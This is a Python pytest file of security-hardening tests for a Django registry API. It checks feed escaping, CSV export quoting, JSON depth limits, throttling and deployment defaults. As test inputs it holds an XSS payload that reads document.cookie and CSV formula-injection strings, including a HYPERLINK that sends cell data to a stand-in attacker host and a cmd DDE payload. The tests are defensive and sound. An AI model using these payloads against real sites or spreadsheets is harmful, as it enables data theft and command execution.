"""Hardening, round two: what an attacker and a careless paste could still do.

Each test names the attack or accident, and shows that it now gets a clear answer and
changes nothing.
"""

from __future__ import annotations

import csv
import io
import json
import runpy
import subprocess
import sys
from collections.abc import Callable
from html.parser import HTMLParser
from http import HTTPStatus
from io import StringIO
from pathlib import Path
from typing import Any

import feedparser
import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission, User
from django.core.management import call_command
from django.test import Client

from tests.conftest import ScriptedHistory
from tests.deploy.test_deploy import (
    PRODUCTION_HOST,
    PROJECT_ROOT,
    manage,
    production_environment,
)
from units.models import OrganizationalUnit

API = "/api/v1/"
SCRIPT = '<img src=x onerror="alert(document.cookie)">'


# --- 2. The Atom feed's summaries -------------------------------------------------------


class _Elements(HTMLParser):
    """The element names and the text of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.django_db
def test_atom_summaries_show_a_scripted_name_as_text_not_an_element(
    client: Client, make_unit: Callable[..., OrganizationalUnit]
) -> None:
    make_unit(SCRIPT, reason=f"Because {SCRIPT}", reason_visibility="public")

    feed = feedparser.parse(client.get(f"{API}changes.atom").content)

    (entry,) = feed.entries
    assert entry.summary_detail.type == "text/html"
    summary = _Elements()
    summary.feed(entry.summary)
    assert summary.tags == []
    assert summary.text.startswith(f"{SCRIPT} established")
    assert summary.text.endswith(f". Reason: Because {SCRIPT}")
    # The title is plain text in Atom already.
    assert entry.title.startswith(f"{SCRIPT} established")


# --- 3. CSV formula injection -----------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Finance = money", "Finance = money"),
        ("", ""),
        (3, 3),
    ],
)
def test_spreadsheet_safe_quotes_cells_a_spreadsheet_would_evaluate(
    cell: object, written: object
) -> None:
    from api.formats.exports import spreadsheet_safe

    assert spreadsheet_safe(cell) == written


@pytest.mark.django_db
def test_csv_export_neutralizes_formulas_in_every_text_cell(
    client: Client, make_unit: Callable[..., OrganizationalUnit]
) -> None:
    make_unit(
        '=HYPERLINK("http://evil.example/?"&A1, "Click")',
        short_name="+SUM(1)",
        location="@Geneva",
        mandate="-1+1",
    )

    response = client.get(f"{API}export/units.csv")

    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1, "Click")'
    assert row["short_name"] == "'+SUM(1)"
    assert row["location"] == "'@Geneva"
    assert row["mandate"] == "'-1+1"
    # Plain values are untouched: a level is still a number.
    assert row["level"] == "0"
    assert row["status"] == "active"


# --- 7. Deeply nested JSON --------------------------------------------------------------


@pytest.fixture
def unit_editor_client(scripted_history: ScriptedHistory, editor: User) -> Client:
    editor.user_permissions.add(
        Permission.objects.get(codename="change_organizationalunit"),
        Permission.objects.get(codename="add_organizationalunit"),
    )
    client = Client()
    client.force_login(get_user_model().objects.get(pk=editor.pk))
    return client


@pytest.mark.django_db
@pytest.mark.parametrize("depth", [100_000, 33])
def test_deeply_nested_json_is_a_400_that_says_so_and_changes_nothing(
    unit_editor_client: Client, depth: int
) -> None:
    unit = OrganizationalUnit.objects.get(slug="unit-y")
    revisions = OrganizationalUnit.history.count()
    body = '{"reason": "Deep", "mandate": ' + "[" * depth + "]" * depth + "}"

    response = unit_editor_client.patch(
        f"{API}units/unit-y/", body, content_type="application/json"
    )

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert "nested too deeply" in response.json()["detail"]
    assert "at most 32 levels" in response.json()["detail"]
    unit.refresh_from_db()
    assert unit.mandate == ""
    assert OrganizationalUnit.history.count() == revisions


@pytest.mark.django_db
def test_json_nested_as_deep_as_allowed_reaches_validation(
    unit_editor_client: Client,
) -> None:
    """The limit is on nesting only: a body within it gets the usual field errors."""
    depth = 31  # the body object is level 1
    body = '{"reason": "Deep", "mandate": ' + "[" * depth + "]" * depth + "}"

    response = unit_editor_client.patch(
        f"{API}units/unit-y/", body, content_type="application/json"
    )

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert "mandate" in json.dumps(response.json())
    assert "nested too deeply" not in json.dumps(response.json())


# --- 8. Throttle counters shared by every worker ----------------------------------------

# One "worker": a fresh interpreter sending anonymous API requests through Django's
# test client (the whole middleware and DRF stack), printing each status.
_WORKER = """
import sys, django
django.setup()
from django.test import Client
client = Client(REMOTE_ADDR="198.51.100.7")
for _ in range(int(sys.argv[1])):
    print(client.get("/api/v1/units/", secure=True, HTTP_HOST=sys.argv[2]).status_code)
"""


def _worker(count: int, environment: dict[str, str]) -> list[int]:
    result = subprocess.run(  # noqa: S603 - our own interpreter
        [sys.executable, "-c", _WORKER, str(count), PRODUCTION_HOST],
        cwd=PROJECT_ROOT,
        env=environment,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    return [int(line) for line in result.stdout.split()]


def test_two_worker_processes_share_the_anonymous_throttle_count(
    tmp_path: Path,
) -> None:
    """Without CACHE_URL the counters live in a database table both processes see."""
    environment = production_environment(
        DATABASE_URL=f"sqlite:///{tmp_path / 'registry.sqlite3'}",
        API_ANON_RATE="3/minute",
    )
    migrated = manage("migrate", "--noinput", environment=environment, timeout=180)
    assert migrated.returncode == 0, migrated.stderr[-3000:]

    first = _worker(2, environment)
    second = _worker(2, environment)

    assert first == [HTTPStatus.OK, HTTPStatus.OK]
    # Per-process counting would have granted the second process three more.
    assert second == [HTTPStatus.OK, HTTPStatus.TOO_MANY_REQUESTS]


def production_cache_settings(**overrides: str) -> dict[str, Any]:
    script = (
        "import json, django; django.setup(); from django.conf import settings as s;"
        "print(json.dumps({'caches': s.CACHES, 'rates': "
        "s.REST_FRAMEWORK['DEFAULT_THROTTLE_RATES']}, default=str))"
    )
    result = subprocess.run(  # noqa: S603 - our own interpreter
        [sys.executable, "-c", script],
        cwd=PROJECT_ROOT,
        env=production_environment(**overrides),
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    return json.loads(result.stdout)


def test_throttle_counters_go_to_redis_when_it_is_the_shared_cache() -> None:
    # The default cache is Redis: the counters stay in it, as DRF keeps them.
    on_redis = production_cache_settings(CACHE_URL="redis://cache.internal:6379/0")
    assert "throttle" not in on_redis["caches"]

    # A per-process read cache is no place for them: a table of their own instead.
    for read_cache in ("locmem://", "dummy://", "db://registry_cache"):
        throttle = production_cache_settings(CACHE_URL=read_cache)["caches"]["throttle"]
        assert throttle["BACKEND"] == "django.core.cache.backends.db.DatabaseCache"
        assert throttle["LOCATION"] == "orgregistry_throttle"
        assert throttle["OPTIONS"]["MAX_ENTRIES"] >= 100_000

    chosen = production_cache_settings(THROTTLE_CACHE_URL="redis://counters:6379/1")
    assert chosen["caches"]["throttle"]["LOCATION"] == "redis://counters:6379/1"


def test_signed_in_users_have_their_own_higher_rate_from_the_environment() -> None:
    rates = production_cache_settings()["rates"]
    anonymous, _ = _per_minute(rates["anon"])
    signed_in, _ = _per_minute(rates["user"])
    assert signed_in > anonymous

    assert production_cache_settings(API_USER_RATE="50/minute")["rates"]["user"] == (
        "50/minute"
    )


def _per_minute(rate: str) -> tuple[int, str]:
    number, period = rate.split("/")
    return int(number), period


@pytest.mark.django_db
def test_signed_in_users_are_throttled_at_their_own_rate(
    scripted_history: ScriptedHistory,
    editor: User,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from rest_framework.throttling import UserRateThrottle

    from api.throttling import throttle_cache

    throttle_cache().clear()
    monkeypatch.setattr(UserRateThrottle, "THROTTLE_RATES", {"user": "3/minute"})
    client = Client()
    client.force_login(editor)

    statuses = [client.get(f"{API}units/").status_code for _ in range(4)]

    assert statuses == [HTTPStatus.OK] * 3 + [HTTPStatus.TOO_MANY_REQUESTS]
    # Another user has a budget of their own; anonymous clients are not counted here.
    assert Client().get(f"{API}units/").status_code == HTTPStatus.OK


# --- 9. gunicorn's address --------------------------------------------------------------


def _gunicorn_bind(monkeypatch: pytest.MonkeyPatch, **environment: str) -> str:
    for name in ("GUNICORN_BIND", "PORT"):
        monkeypatch.delenv(name, raising=False)
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    return runpy.run_path(str(PROJECT_ROOT / "gunicorn.conf.py"))["bind"]


def test_gunicorn_listens_on_loopback_unless_told_otherwise(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Reached directly, a client would write the X-Forwarded-For PROXY_COUNT trusts."""
    assert _gunicorn_bind(monkeypatch) == "127.0.0.1:8000"
    assert _gunicorn_bind(monkeypatch, PORT="9000") == "127.0.0.1:9000"
    assert _gunicorn_bind(monkeypatch, GUNICORN_BIND="") == "127.0.0.1:8000"
    assert (
        _gunicorn_bind(monkeypatch, GUNICORN_BIND="0.0.0.0:8000")  # noqa: S104
        == "0.0.0.0:8000"  # noqa: S104
    )


# --- 10. Development defaults in a real deployment --------------------------------------


@pytest.mark.django_db
def test_the_dev_admin_is_not_created_in_a_database_named_by_database_url(
    settings: Any,
) -> None:
    settings.DEBUG = True
    settings.DISPOSABLE_DATABASE = False
    out, err = StringIO(), StringIO()

    call_command("ensure_dev_admin", stdout=out, stderr=err)

    assert not get_user_model().objects.filter(username="admin").exists()
    assert "Skipped" in err.getvalue()
    assert "DATABASE_URL" in err.getvalue()
    assert "--any-database" in err.getvalue()
    assert "Password" not in out.getvalue()


@pytest.mark.django_db
def test_the_dev_admin_is_created_in_a_real_database_only_when_asked(
    settings: Any,
) -> None:
    settings.DEBUG = True
    settings.DISPOSABLE_DATABASE = False

    call_command("ensure_dev_admin", "--any-database", stdout=StringIO())

    assert get_user_model().objects.get(username="admin").is_superuser


def test_disposable_database_means_the_embedded_sqlite_file() -> None:
    """What the command's guard reads, in a process configured like `make run`."""

    def disposable(**environment: str) -> bool:
        result = manage(
            "shell",
            "-c",
            "from django.conf import settings; print(settings.DISPOSABLE_DATABASE)",
            environment=production_environment(
                SECURE="false", DEBUG="true", **environment
            ),
        )
        assert result.returncode == 0, result.stderr
        return result.stdout.split()[-1] == "True"

    assert disposable(DATABASE_URL="")
    assert not disposable(DATABASE_URL="postgres://registry@db.internal/orgregistry")
    assert not disposable(DATABASE_URL="sqlite:////srv/registry.sqlite3")


@pytest.mark.parametrize(
    "key",
    [
        "django-insecure-development-only-key-do-not-use-in-production",
        "django-insecure-7f$x1q0y3(generated-by-startproject)",
    ],
)
def test_secure_refuses_a_published_development_key_even_with_debug(key: str) -> None:
    for environment in (
        production_environment(SECRET_KEY=key),
        production_environment(SECRET_KEY=key, DEBUG="true"),
    ):
        result = manage("check", environment=environment)
        assert result.returncode != 0
        assert "ImproperlyConfigured" in result.stderr
        assert "published development key" in result.stderr


def test_secure_with_debug_and_no_secret_key_does_not_run_on_the_development_key() -> (
    None
):
    environment = production_environment(DEBUG="true")
    del environment["SECRET_KEY"]

    result = manage("check", environment=environment)

    assert result.returncode != 0
    assert "published development key" in result.stderr


def test_development_without_secure_still_runs_on_the_development_key() -> None:
    environment = production_environment(DEBUG="true", SECURE="false")
    del environment["SECRET_KEY"]

    result = manage("check", environment=environment)

    assert result.returncode == 0, result.stderr
    assert settings.SECRET_KEY  # and the test run itself is such a process
